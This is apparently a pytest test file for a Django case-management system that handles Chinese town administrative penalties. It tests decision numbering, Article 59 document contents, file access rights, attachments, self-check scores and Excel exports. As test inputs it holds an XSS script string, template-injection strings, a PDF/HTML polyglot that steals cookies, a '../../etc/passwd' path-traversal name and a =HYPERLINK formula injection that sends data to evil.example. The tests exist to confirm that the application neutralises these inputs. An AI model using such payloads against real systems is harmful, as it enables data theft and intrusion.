"""Issue 14 under attack (documents, numbers, attachments, self-check, exports): what a clerk, a party and a legal
reader rely on, tried at its edges — numbers over a failed step and a new year, Art 59's contents for every kind
of party and penalty, text that breaks templates, documents asked for too early or through another case,
roles that may not see a case, hostile files, the self-check's boundary dates and its kept score, the XLSX
exports' filters and cells."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from PIL import Image

from cases import documents as case_documents
from cases.models import Case, OfficerCertificate
from documents import registry, selectors
from documents.models import Attachment
from documents.rendering import render_docx, render_html, render_pdf
from workflows.models import AuditEntry, NumberPattern, NumberSequence

from .case_fixtures import (
    CASES,
    case_url,
    fire,
    get_case,
    ok,
    party,
    today,
    town_fixture,  # noqa: F401 - the `town` fixture
)
from .clock import LOCAL
from .conftest import client_for, make_user
from .document_helpers import docx_text, pdf_text, squeeze

pytestmark = [pytest.mark.django_db, pytest.mark.clock]

DECISION_KIND = "penalty_decision"


def case_of(body) -> Case:
    return Case.objects.get(pk=body["id"])


def current_record(kind_name, case):
    records = registry.kind(kind_name).records
    rows = list(records(case)) if records else []
    return rows[-1] if rows else None


def decision_number(case) -> str:
    issued = selectors.issued(DECISION_KIND, case, current_record(DECISION_KIND, case))
    return issued.number if issued else ""


def both_texts(kind_name, case, record=None) -> tuple[str, str]:
    record = record if record is not None else current_record(kind_name, case)
    return squeeze(docx_text(render_docx(kind_name, case, record))), pdf_text(render_pdf(kind_name, case, record))


def content_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (10, 200, 10)).save(out, "JPEG")
    return out.getvalue()


MINIMAL_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
               b"trailer<</Root 1 0 R>>\n%%EOF\n")


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def get_as(user, url):
    """GET `url` as `user`: the API with its client, a web page (print view, download) with a browser session."""
    if "/api/" in url:
        return client_for(user).get(url)
    page = Client()
    page.force_login(user)
    return page.get(url)


def attach(client, case_id, name, content, category="photo", title="现场照片"):
    return client.post(f"/api/v1/cases/{case_id}/attachments/",
                       {"file": SimpleUploadedFile(name, content, content_type="image/jpeg"), "category": category,
                        "title": title}, format="multipart")


# =============================================================================================================
# Numbers
# =============================================================================================================

def test_a_step_that_fails_after_the_number_was_taken_gives_the_number_back(town, monkeypatch):
    """Two decisions of one year are 1 and 2, with no gap when a decision in between failed after its number was
    taken (the rollback returns it: GB/T 9704 §7.2.5, a number is never skipped or reused)."""
    first = case_of(town.decided(fine="500"))
    second = town.deciding("500")
    from documents import services as document_services

    real_record = document_services.audit.record

    def broken_record(obj, *, transition, **kwargs):
        if transition == "issue_document":
            raise RuntimeError("the audit store failed")
        return real_record(obj, transition=transition, **kwargs)

    monkeypatch.setattr(document_services.audit, "record", broken_record)
    with pytest.raises(RuntimeError):
        fire(town.api("principal"), second["id"], "decide", outcome="penalty", fine="500")
    monkeypatch.undo()
    failed = case_of(second)
    assert failed.state == "deciding" and failed.decided_on is None
    assert NumberSequence.objects.get(scope="doc:penalty_decision", year=today().year).last == 1
    assert "decide" not in [h["transition"] for h in get_case(town.api("o1"), second["id"])["history"]]
    ok(fire(town.api("principal"), second["id"], "decide", outcome="penalty", fine="500"))
    year = today().year
    assert decision_number(first) == f"石综执罚决字〔{year}〕1号"
    assert decision_number(case_of(second)) == f"石综执罚决字〔{year}〕2号"


def test_a_new_year_restarts_the_decision_numbers_at_one(town, clock):
    year = clock.today().year
    clock.move_to(datetime.date(year, 12, 31))
    december = case_of(town.decided(fine="500"))
    clock.move_to(datetime.datetime(year + 1, 1, 1, 9, 0, tzinfo=LOCAL))
    january = case_of(town.decided(fine="500"))
    assert december.decided_on == datetime.date(year, 12, 31)
    assert decision_number(december) == f"石综执罚决字〔{year}〕1号"
    assert decision_number(january) == f"石综执罚决字〔{year + 1}〕1号"
    # The December document keeps its own year in the file it prints.
    text_docx, text_pdf = both_texts(DECISION_KIND, december)
    assert f"石综执罚决字〔{year}〕1号" in text_docx and f"石综执罚决字〔{year}〕1号" in text_pdf


def test_a_changed_pattern_applies_to_the_next_number_only(town):
    first = case_of(town.decided(fine="500"))
    old = decision_number(first)
    NumberPattern.objects.create(scope="doc:penalty_decision", pattern="石桥罚字〔{year}〕第{seq}号")
    second = case_of(town.decided(fine="500"))
    year = today().year
    assert decision_number(second) == f"石桥罚字〔{year}〕第2号"
    assert decision_number(first) == old == f"石综执罚决字〔{year}〕1号"
    assert old in both_texts(DECISION_KIND, first)[0]


def test_the_decision_number_is_on_the_case_api_the_history_and_the_case_page(town, client):
    body = town.decided(fine="500")
    number = decision_number(case_of(body))
    detail = get_case(town.api("o1"), body["id"])
    issued = [h for h in detail["history"] if h["transition"] == "issue_document"
              and h["fields"]["kind"] == DECISION_KIND]
    assert [h["fields"]["number"] for h in issued] == [number]
    listing = ok(town.api("o1").get(case_url(body["id"], "documents/")))
    assert {row["kind"]: row["number"] for row in listing}[DECISION_KIND] == number
    client.force_login(town.u["o1"])
    page = client.get(f"/cases/cases/{body['id']}/").content.decode()
    assert number in page


def test_after_a_revoked_decision_the_old_number_stays_in_the_history_and_is_never_reused(town):
    body = town.served()
    old = decision_number(case_of(body))
    remedy = ok(fire(town.api("o1"), body["id"], "record_remedy", kind="reconsideration", body="本县人民政府"))
    ok(fire(town.api("o1"), body["id"], "record_remedy", remedy=remedy["remedies"][0]["id"], outcome="revoked_redo",
            note="撤销并责令重新作出"))
    other = case_of(town.decided(fine="600"))  # another case decided in between takes the next number
    ok(fire(town.api("o1"), body["id"], "notify", facts="重新查明的事实。", legal_basis="依据第三十六条",
            proposed_fine="300"))
    ok(fire(town.api("o1"), body["id"], "submit_decision", waiver=True))
    ok(fire(town.api("principal"), body["id"], "decide", outcome="penalty", fine="300"))
    year = today().year
    new = decision_number(case_of(body))
    assert (old, decision_number(other), new) == (f"石综执罚决字〔{year}〕1号", f"石综执罚决字〔{year}〕2号",
                                                  f"石综执罚决字〔{year}〕3号")
    history = [h["fields"]["number"] for h in get_case(town.api("o1"), body["id"])["history"]
               if h["transition"] == "issue_document" and h["fields"]["kind"] == DECISION_KIND]
    assert history == [old, new]


# =============================================================================================================
# Content (Art 59)
# =============================================================================================================

ART59_RIGHTS = ["六十日内", "人民政府", "行政复议", "六个月内", "人民法院", "行政诉讼"]


def assert_article_59(case, extra):
    number = decision_number(case)
    assert number
    expected = [number, case.party.name, case.party.address, *case.facts.splitlines()[:1], "证据", case.legal_basis,
                *ART59_RIGHTS, "石桥镇人民政府", case_documents.cn_date(case.decided_on), *extra]
    text_docx, text_pdf = both_texts(DECISION_KIND, case)
    for item in expected:
        assert squeeze(item) in text_docx, f"DOCX lacks {item!r}"
        assert squeeze(item) in text_pdf, f"PDF lacks {item!r}"


def test_a_decision_against_an_organisation_with_jiao_in_the_fine(town):
    org = party(name="石桥镇某某建材有限公司", kind="org", id_number="91350100M000100Y43", address="石桥镇工业园3号")
    case = case_of(town.decided(fine="1234.50", party=org))
    assert case.fine == Decimal("1234.50")
    # 会计基础工作规范 Art 52: an amount that ends at 角 is written with 整 after it.
    assert_article_59(case, ["1,234.50", "壹仟贰佰叁拾肆元伍角整", "91350100M000100Y43", "十五日内"])


@pytest.mark.parametrize("amount, upper", [
    ("1234.50", "壹仟贰佰叁拾肆元伍角整"), ("0.50", "伍角整"), ("100.10", "壹佰元壹角整"), ("1234.56", "壹仟贰佰叁拾肆元伍角陆分"),
    ("0.05", "伍分"), ("1000.05", "壹仟元零伍分"),
])
def test_capital_amounts_end_with_zheng_after_jiao(amount, upper):
    """会计基础工作规范 Art 52 (the bookkeeping rule the documents follow, local practice): 整 after 元 or 角, never
    after 分 (a 零 where the 元 digit is 0 before 角 may be written or left out; the code leaves it out)."""
    assert case_documents.rmb_upper(Decimal(amount)) == upper


def test_a_warning_only_decision_has_no_fine_and_says_how_to_perform(town):
    case = case_of(_warning_case(town))
    assert case.fine is None and case.measures == ["warning"]
    assert_article_59(case, ["警告", "送达之日起"])
    text_docx, _pdf = both_texts(DECISION_KIND, case)
    assert "罚款" not in text_docx.replace("罚决字", "") and "元整" not in text_docx


def _warning_case(town):
    body = town.notified(fine=None, measures=("warning",))
    ok(fire(town.api("o1"), body["id"], "submit_decision", waiver=True))
    return ok(fire(town.api("principal"), body["id"], "decide", outcome="penalty", measures=["warning"]))


def test_a_confiscation_is_stated_with_its_value(town):
    body = town.investigating()
    ok(fire(town.api("o1"), body["id"], "notify", facts="当事人占道经营获利三百元。", legal_basis="依据第三十六条",
            proposed_fine="200", proposed_measures=["confiscate_gains"], proposed_confiscation_value="300"))
    ok(fire(town.api("o1"), body["id"], "submit_decision", waiver=True))
    ok(fire(town.api("principal"), body["id"], "decide", outcome="penalty", fine="200",
            measures=["confiscate_gains"], confiscation_value="300"))
    assert_article_59(case_of(body), ["没收违法所得", "300.00", "贰佰元整"])


NASTY = '<b>王&某</b> "引号" \'单\' {{ party.name }} {% if 1 %}X{% endif %} ${x} 😀'


def test_party_text_that_breaks_templates_appears_literally_in_docx_pdf_and_print(town):
    nasty_party = party(name=NASTY[:100], address='石桥村<script>alert(1)</script>&amp;"路"')
    body = town.investigating(party=nasty_party)
    facts = "第一行 {{ 7*7 }} <i>斜</i>\n第二行 {% raw %} & \"x\""
    ok(fire(town.api("o1"), body["id"], "notify", facts=facts, legal_basis="依据<第三十六条>&附则",
            proposed_fine="500"))
    ok(fire(town.api("o1"), body["id"], "submit_decision", waiver=True))
    ok(fire(town.api("principal"), body["id"], "decide", outcome="penalty", fine="500"))
    case = case_of(body)
    assert case.party.name == NASTY[:100]
    text_docx = squeeze(docx_text(render_docx(DECISION_KIND, case, current_record(DECISION_KIND, case))))
    for literal in ("<b>王&某</b>", '"引号"', "{{party.name}}", "{%if1%}X{%endif%}", "😀",
                    "石桥村<script>alert(1)</script>&amp;\"路\"", "第一行{{7*7}}<i>斜</i>", "第二行{%raw%}&\"x\"",
                    "依据<第三十六条>&附则"):
        assert squeeze(literal) in text_docx, literal
    assert "第一行49" not in text_docx  # {{ 7*7 }} was not evaluated
    html = render_html(DECISION_KIND, case, current_record(DECISION_KIND, case))
    assert "<script>alert(1)" not in html and "&lt;script&gt;" in html and "<b>王" not in html
    text_pdf = pdf_text(render_pdf(DECISION_KIND, case, current_record(DECISION_KIND, case)))
    for literal in ("<b>王&某</b>", "{{party.name}}", "{%if1%}X{%endif%}", "第一行{{7*7}}<i>斜</i>",
                    "依据<第三十六条>&附则"):
        assert squeeze(literal) in text_pdf, literal
    # The API files too, no 500.
    for row in ok(town.api("o1").get(case_url(body["id"], "documents/"))):
        if row["available"]:
            for url in row["urls"].values():
                assert town.api("o1").get(url).status_code == 200, url


def test_a_party_name_longer_than_the_field_is_refused_not_a_500_and_the_longest_one_prints(town):
    refused = town.api("o1").post(CASES, {**_report(town), "party": party(name="王" * 200)}, format="json")
    assert refused.status_code == 400 and refused.json()["error"] and refused.json()["detail"]
    longest = "石桥" * 50
    case = case_of(town.decided(fine="500", party=party(name=longest)))
    text_docx, text_pdf = both_texts(DECISION_KIND, case)
    assert longest in text_docx and longest in text_pdf


def _report(town):
    from .case_fixtures import report_payload

    return report_payload()


# =============================================================================================================
# Availability
# =============================================================================================================

def test_every_document_asked_for_before_its_step_is_409_with_a_chinese_reason(town):
    body = town.report()
    for row in ok(town.api("o1").get(case_url(body["id"], "documents/"))):
        assert row["available"] is False and row["reason"], row
        for url in list(row["urls"].values()) + [row["print_url"]]:
            response = get_as(town.u["o1"], url)
            assert response.status_code == 409, (url, response.status_code)
            if "/api/" in url:
                data = response.json()
                assert data["error"] and any("\u4e00" <= ch <= "\u9fff" for ch in data["detail"]), data


def available(town, case_id) -> set[str]:
    return {row["kind"] for row in ok(town.api("o1").get(case_url(case_id, "documents/"))) if row["available"]}


def test_a_transferred_case_has_no_decision_document(town):
    body = town.case_in("transferred")
    assert available(town, body["id"]) == set()


def test_a_no_penalty_case_offers_the_no_penalty_decision_and_never_the_penalty_decision(town):
    body = town.served(outcome="no_penalty", fine=None)
    kinds = available(town, body["id"])
    assert "no_penalty_decision" in kinds and "closing_report" in kinds
    assert DECISION_KIND not in kinds and "on_the_spot_decision" not in kinds and "payment_demand" not in kinds


def test_an_on_the_spot_case_offers_only_its_spot_decision(town):
    body = town.on_the_spot()
    kinds = available(town, body["id"])
    assert "on_the_spot_decision" in kinds
    assert not kinds & {"filing_approval", DECISION_KIND, "penalty_notice", "no_penalty_decision"}


def test_a_record_of_another_case_is_404_and_never_shows_that_case(town):
    from .case_fixtures import add_inquiry

    mine = town.investigating()
    theirs = town.investigating(party=party(name="李某某隐私"))
    ok(add_inquiry(town.api("o1"), theirs["id"], town.pair, subject_name="李某某隐私"), 201)
    inquiry = Case.objects.get(pk=theirs["id"]).inquiries.get()
    for url in (f"/api/v1/cases/{mine['id']}/documents/inquiry_record/{inquiry.pk}.docx",
                f"/documents/cases/{mine['id']}/inquiry_record/{inquiry.pk}/print/",
                f"/documents/cases/{mine['id']}/inquiry_record/{inquiry.pk}/file.pdf"):
        response = get_as(town.u["o1"], url)
        assert response.status_code == 404, url
        assert "李某某隐私".encode() not in content_of(response)


# =============================================================================================================
# Rights
# =============================================================================================================

def test_roles_that_may_not_see_a_case_never_get_its_files(town):
    body = town.decided(fine="500")
    photo = ok(attach(town.api("o1"), body["id"], "a.jpg", jpeg()), 201)
    decision_row = next(r for r in ok(town.api("o1").get(case_url(body["id"], "documents/")))
                        if r["kind"] == DECISION_KIND)
    urls = [case_url(body["id"], "documents/"), *decision_row["urls"].values(), decision_row["print_url"],
            f"/documents/cases/{body['id']}/{DECISION_KIND}/1/file.docx",
            case_url(body["id"], "attachments/"), photo["download_url"], photo["thumbnail_url"],
            case_url(body["id"], "self-check/"), CASES + "?format=xlsx"]
    secretary = make_user("office_secretary", username="secretary")
    for user in (town.u["drafter"], secretary):
        for url in urls:
            response = get_as(user, url)
            assert response.status_code == 403, (user.username, url, response.status_code)
            data = content_of(response)
            assert b"PK\x03\x04" not in data[:4] and b"%PDF" not in data[:8] and b"\xff\xd8" not in data[:2]
            assert "王某某".encode() not in data
    anonymous = Client()
    for url in urls:
        response = anonymous.get(url)
        assert response.status_code in (401, 302), (url, response.status_code)
        assert "王某某".encode() not in content_of(response)
    page = Client()
    page.force_login(town.u["drafter"])
    assert page.get(reverse("cases:cases:index") + "?export=xlsx").status_code == 403


def sheet_rows(response):
    assert response.status_code == 200, content_of(response)[:300]
    book = openpyxl.load_workbook(io.BytesIO(content_of(response)))
    rows = list(book.active.iter_rows(values_only=True))
    return rows[0], rows[1:]


def test_the_case_export_honours_every_filter_of_the_list(town):
    town.executed()
    town.report(violation_type="WFJS", description="当事人未经许可搭建房屋。", village=town.village2.pk)
    town.investigating(officers=[town.u["o2"], town.u["o3"]], party=party(name="赵某某"))
    api = town.api("chief")
    filters = ["state=executed", f"village={town.village2.pk}", f"officer={town.u['o3'].pk}",
               "violation_type=WFJS", "search=赵某某", "state=investigating&officer=" + str(town.u["o1"].pk), ""]
    for query in filters:
        listing = ok(api.get(f"{CASES}?{query}&page_size=1000"))
        rows_json = listing["results"] if isinstance(listing, dict) else listing
        header, rows = sheet_rows(api.get(f"{CASES}?{query}&format=xlsx"))
        numbered = header.index("当事人")
        assert sorted(str(r[numbered]) for r in rows) == sorted(r["party"]["name"] if isinstance(r.get("party"), dict)
                                                                else r.get("party_name", r.get("party"))
                                                                for r in rows_json), query


def test_a_party_name_that_looks_like_a_formula_is_exported_as_text(town):
    """A spreadsheet formula typed as a party's name (=HYPERLINK, +cmd) must reach the clerk's Excel as the text it
    is, never as a formula Excel would run or show the result of (CSV/formula injection)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    town.report(party=party(name=formula))
    header, rows = sheet_rows(town.api("chief").get(CASES + "?format=xlsx"))
    book = openpyxl.load_workbook(io.BytesIO(content_of(town.api("chief").get(CASES + "?format=xlsx"))))
    cell = next(c for c in book.active[2] if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s", cell.data_type
    assert str(cell.value).endswith(formula)


# =============================================================================================================
# Attachments
# =============================================================================================================

def test_a_pdf_html_polyglot_is_served_as_a_download_never_as_a_page(town):
    body = town.investigating()
    polyglot = MINIMAL_PDF + b"<html><script>alert(document.cookie)</script></html>"
    created = attach(town.api("o1"), body["id"], "scan.html", polyglot, category="evidence", title="扫描件")
    if created.status_code == 400:  # refused outright: just as safe
        return
    data = ok(created, 201)
    assert data["content_type"] == "application/pdf"
    response = town.api("o1").get(data["download_url"])
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response.get("X-Content-Type-Options") == "nosniff"
    assert not Attachment.objects.get(pk=data["id"]).file.name.endswith(".html")


def test_an_empty_file_is_refused_with_a_reason(town):
    body = town.investigating()
    refused = attach(town.api("o1"), body["id"], "empty.jpg", b"")
    assert refused.status_code == 400 and refused.json()["error"] and refused.json()["detail"]
    assert not Attachment.objects.exists()


def test_a_path_in_the_file_name_stays_out_of_the_store_and_the_header(town, media):
    body = town.investigating()
    data = ok(attach(town.api("o1"), body["id"], "../../etc/passwd.jpg", jpeg()), 201)
    stored = Attachment.objects.get(pk=data["id"])
    assert ".." not in stored.file.name and "passwd" not in stored.file.name
    assert (media / stored.file.name).resolve().is_relative_to(media.resolve())
    assert stored.original_name == "passwd.jpg"
    header = town.api("o1").get(data["download_url"])["Content-Disposition"]
    assert ".." not in header and "/" not in header.split("filename")[1].replace("utf-8''", "")


def test_a_chinese_file_name_with_quotes_downloads_with_a_well_formed_header(town):
    from urllib.parse import quote

    body = town.investigating()
    name = '现场"照片";一.jpg'
    data = ok(attach(town.api("o1"), body["id"], name, jpeg()), 201)
    response = town.api("o1").get(data["download_url"])
    header = response["Content-Disposition"]
    assert header.startswith("attachment;")
    assert f"filename*=utf-8''{quote(name)}" in header
    assert header.count('"') % 2 == 0
    assert content_of(response) == jpeg() or content_of(response)[:2] == b"\xff\xd8"


def test_the_size_limit_counts_bytes_exactly(town, settings):
    settings.ATTACHMENT_MAX_MB = 1
    body = town.investigating()
    limit = 1024 * 1024
    at_limit = MINIMAL_PDF + b"\n" * (limit - len(MINIMAL_PDF))
    ok(attach(town.api("o1"), body["id"], "a.pdf", at_limit, category="evidence"), 201)
    refused = attach(town.api("o1"), body["id"], "b.pdf", at_limit + b"\n", category="evidence")
    assert refused.status_code == 400 and "1 MB" in refused.json()["detail"]


def test_evidence_may_still_be_added_to_a_closed_case_audited_and_the_kept_score_stays(town):
    """After closing (结案), a court's judgment or a late receipt still belongs with the file; the 备考表 of the case
    file records such later material (local practice of 案卷归档). So uploading is allowed, audited, and the kept
    self-check (DESIGN §10: the score kept as at closing) does not move."""
    body = town.executed()
    closed = ok(fire(town.api("chief"), body["id"], "close", summary="结案"))
    assert closed["state"] == "closed"
    kept = case_of(body).self_check_score
    kept_result = case_of(body).self_check_result
    ok(attach(town.api("o1"), body["id"], "late.jpg", jpeg(), category="photo", title="法院判决书照片"), 201)
    assert AuditEntry.objects.filter(object_id=str(body["id"]), transition="attach").count() == 1
    case = case_of(body)
    assert case.self_check_score == kept and case.self_check_result == kept_result
    api_result = ok(town.api("judicial").get(case_url(body["id"], "self-check/")))
    assert api_result["score"] == kept, (api_result, kept)


def test_a_double_submit_keeps_two_audited_copies_and_the_chain_verifies(town, capsys):
    body = town.investigating()
    for _ in range(2):
        ok(attach(town.api("o1"), body["id"], "a.jpg", jpeg()), 201)
    rows = Attachment.objects.filter(owner_id=body["id"])
    assert rows.count() == 2 and len({r.file.name for r in rows}) == 2 and len({r.sha256 for r in rows}) == 1
    call_command("verify_audit")
    assert "attachment files intact: 2 files" in capsys.readouterr().out


def test_verify_audit_fails_when_two_stored_files_are_swapped_or_one_is_deleted(town, media):
    body = town.investigating()
    first = ok(attach(town.api("o1"), body["id"], "a.jpg", jpeg()), 201)
    second = ok(attach(town.api("o1"), body["id"], "b.pdf", MINIMAL_PDF, category="evidence"), 201)
    a = media / Attachment.objects.get(pk=first["id"]).file.name
    b = media / Attachment.objects.get(pk=second["id"]).file.name
    bytes_a, bytes_b = a.read_bytes(), b.read_bytes()
    a.write_bytes(bytes_b)
    b.write_bytes(bytes_a)
    with pytest.raises(CommandError) as swapped:
        call_command("verify_audit")
    assert swapped.value.returncode == 1
    assert f"attachment {first['id']}" in str(swapped.value) and f"attachment {second['id']}" in str(swapped.value)
    a.write_bytes(bytes_a)
    b.write_bytes(bytes_b)
    call_command("verify_audit")
    Attachment.objects.filter(pk=second["id"]).delete()
    with pytest.raises(CommandError) as deleted:
        call_command("verify_audit")
    assert deleted.value.returncode == 1 and "row is missing" in str(deleted.value)


# =============================================================================================================
# Self-check
# =============================================================================================================

def veto_codes(town, case_id) -> list[str]:
    return [v["code"] for v in ok(town.api("chief").get(case_url(case_id, "self-check/")))["vetoes"]]


@pytest.mark.parametrize("expires_after_filing, vetoed", [(0, False), (-1, True)])
def test_a_certificate_expiring_on_the_day_of_filing_still_counts(town, expires_after_filing, vetoed):
    """Art 42: the officer must hold a valid certificate on the day they act; one that expires that very day is
    still valid that day, one that expired the day before is not."""
    filed_on = today() - datetime.timedelta(days=20)
    body = town.decided(fine="500", filed_on=filed_on, notified_on=today() - datetime.timedelta(days=10))
    case = case_of(body)
    assert case.filed_on == filed_on
    OfficerCertificate.objects.filter(officer=town.u["o2"]).update(
        expires_on=filed_on + datetime.timedelta(days=expires_after_filing))
    # The inquiries and every other act: none after filing here, so filing is the act that counts.
    assert ("uncertified_officer" in veto_codes(town, body["id"])) is vetoed


def test_a_notice_on_the_same_day_as_the_decision_is_no_veto(town):
    body = town.decided(fine="500")
    case = case_of(body)
    assert case.notified_on == case.decided_on
    assert "no_prior_notice" not in veto_codes(town, body["id"])


def test_an_on_the_spot_case_passes_the_self_check_and_closes(town):
    body = town.on_the_spot()
    check = ok(town.api("chief").get(case_url(body["id"], "self-check/")))
    assert check["passed"], check
    ok(fire(town.api("chief"), body["id"], "acknowledge_spot_filing"))
    ok(fire(town.api("o1"), body["id"], "record_handover", handed_over_on=today(), bank_receipt="缴款书0001"))
    closed = ok(fire(town.api("chief"), body["id"], "close", summary="当场处罚结案"))
    assert closed["state"] == "closed"


def test_a_no_penalty_case_closes_with_no_veto(town):
    body = town.served(outcome="no_penalty", fine=None)
    check = ok(town.api("chief").get(case_url(body["id"], "self-check/")))
    assert check["passed"], check
    assert ok(fire(town.api("chief"), body["id"], "close", summary="不予处罚结案"))["state"] == "closed"


def test_the_kept_score_does_not_move_when_the_data_changes_after_closing(town):
    body = town.executed()
    ok(fire(town.api("chief"), body["id"], "close", summary="结案"))
    kept = case_of(body).self_check_score
    Case.objects.filter(pk=body["id"]).update(legal_basis="", facts="")  # what a later edit could do
    assert case_of(body).self_check_score == kept
    assert ok(town.api("judicial").get(case_url(body["id"], "self-check/")))["score"] == kept
    assert get_case(town.api("judicial"), body["id"])["self_check_score"] == kept


# =============================================================================================================
# API errors
# =============================================================================================================

@pytest.mark.parametrize("path", [
    "documents/penalty_decision.doc", "documents/penalty_decision.PDF", "documents/no_such_kind.docx",
    "documents/penalty_decision/1/.docx", "documents/inquiry_record/999999.docx",
    "documents/penalty_decision/99999999999999999999.pdf", "documents/decision_text.docx", "attachments/x/",
])
def test_garbage_document_urls_answer_json_404_never_500(town, path):
    body = town.decided(fine="500")
    response = town.api("o1").get(case_url(body["id"], path))
    assert response.status_code == 404, (path, response.status_code)
    data = response.json()
    assert data["error"] and data["detail"]


@pytest.mark.parametrize("url", [
    "/api/v1/petitions/1/documents/", "/api/v1/cases/0/documents/", "/api/v1/cases/999999999999999999/documents/",
    "/api/v1/nocases/1/documents/", "/api/v1/cases/1/attachments/", "/api/v1/attachments/0/download/",
])
def test_unknown_owners_and_ids_answer_json_404(town, url):
    response = town.api("o1").get(url)
    assert response.status_code == 404, (url, response.status_code)
    assert response.json()["error"]


def test_an_upload_with_a_garbage_category_or_kind_is_400_json(town):
    body = town.investigating()
    api = town.api("o1")
    for extra in ({"category": "nope"}, {"category": "photo", "document_kind": "minutes"},
                  {"category": "photo", "document_kind": "x" * 100}):
        response = api.post(case_url(body["id"], "attachments/"),
                            {"file": SimpleUploadedFile("a.jpg", jpeg()), "title": "t", **extra}, format="multipart")
        assert response.status_code == 400, (extra, response.status_code)
        assert response.json()["error"] and response.json()["detail"]
